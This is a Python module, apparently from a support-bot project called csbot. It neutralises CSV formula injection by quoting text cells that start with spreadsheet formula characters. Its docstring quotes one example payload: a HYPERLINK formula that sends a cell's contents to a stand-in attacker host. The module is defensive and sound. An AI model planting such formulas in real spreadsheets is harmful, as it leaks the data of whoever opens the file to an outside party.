"""CSV that an admin can open in a spreadsheet safely: every CSV csbot writes goes through here.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets, so a customer who types `=HYPERLINK("https://evil.example/?"
&A1,"Click")` would otherwise plant a live link (or worse) in the admin's spreadsheet. Such a
text cell is written with a single quote in front, which spreadsheets show as plain text
(OWASP's "CSV injection" advice). Numbers are left alone: -0.5 is a number, not a formula.
`restore` takes the quote off again for a reader that feeds the text back to csbot (the
ticket classifier's training data).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def cell(value: Any) -> Any:
    """`value`, with a quote in front when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return QUOTE + value
    return value


def restore(text: str) -> str:
    """The text `cell` was given (for csbot's own readers of the CSVs it wrote)."""
    if text.startswith(QUOTE) and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


class Writer:
    """`csv.writer` whose every cell goes through `cell`."""

    def __init__(self, handle: TextIO, **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class DictWriter(csv.DictWriter):
    """`csv.DictWriter` whose every cell goes through `cell`."""

    def __init__(self, handle: TextIO, fieldnames: Sequence[str], **options: Any) -> None:
        super().__init__(handle, fieldnames, **options)

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: cell(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)
